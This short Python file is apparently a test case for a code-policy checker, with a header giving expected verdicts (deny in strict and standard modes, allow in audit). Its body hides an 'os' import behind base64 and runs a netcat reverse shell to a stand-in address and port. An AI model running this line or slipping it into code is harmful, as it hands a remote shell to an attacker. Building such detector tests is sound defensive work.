# expect: strict=deny standard=deny audit=allow
import base64

m = __import__(base64.b64decode(b"b3M=").decode())
m.system("nc -e /bin/sh 198.51.100.4 4444")
